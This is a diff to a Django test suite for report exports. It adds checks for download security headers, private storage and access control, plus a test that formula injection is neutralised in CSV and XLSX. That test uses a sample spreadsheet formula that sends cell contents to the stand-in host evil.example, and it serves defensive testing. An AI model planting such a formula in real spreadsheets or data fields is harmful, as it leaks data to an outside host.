@@ -10,6 +10,7 @@ import io
 
 import pytest
 from django.conf import settings
+from django.core.files.storage import storages
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -165,6 +166,11 @@ def test_large_exports_are_made_in_the_background(client, scenario, manager, set
     page = client.get(response["Location"])
     assert job.filename in page.content.decode()
     download = client.get(reverse("reports:export_download", args=[job.token]))
+    assert download["Content-Disposition"].startswith("attachment")
+    assert download["X-Content-Type-Options"] == "nosniff"
+    assert download["Content-Security-Policy"] == "default-src 'none'; sandbox"
+    assert storages["private"].exists(job.file.name)
+    assert not storages["default"].public.exists(job.file.name)
     book = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
     names = [row[0].value for row in book["Officers"].iter_rows(min_row=3)]
     assert sorted(names) == sorted(
@@ -173,6 +179,10 @@ def test_large_exports_are_made_in_the_background(client, scenario, manager, set
     assert job.log.background and job.log.rows == 4
     listing = client.get(reverse("reports:exports"))
     assert reverse("reports:export_download", args=[job.token]) in listing.content.decode()
+    client.logout()
+    anonymous = client.get(reverse("reports:export_download", args=[job.token]))
+    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]
+    assert client.get(f"/media/{job.file.name}").status_code == 404
 
 
 def test_a_job_whose_scope_was_lost_fails_with_a_message(scenario, manager):
@@ -225,6 +235,27 @@ def test_xlsx_memory_stays_flat_as_rows_grow():
             peaks.append(tracemalloc.get_traced_memory()[1])
             tracemalloc.stop()
     assert peaks[1] < peaks[0] * 1.5
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_name_that_starts_like_a_formula_is_text_in_reports(
+    client, scenario, manager, officer, fmt
+):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
+    officer.first_name, officer.last_name = formula, ""
+    officer.save()
+    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
+    _response, data = export(client, manager, url, export=fmt, table="officers")
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+        assert "'" + formula in cells
+        return
+    book = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    assert "'" + formula in [cell.value for cell in cells]
+    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
+    assert numbers  # figures stay numbers
 
 
 # CSV in the Excel flavour of the reader's language -----------------------------------------
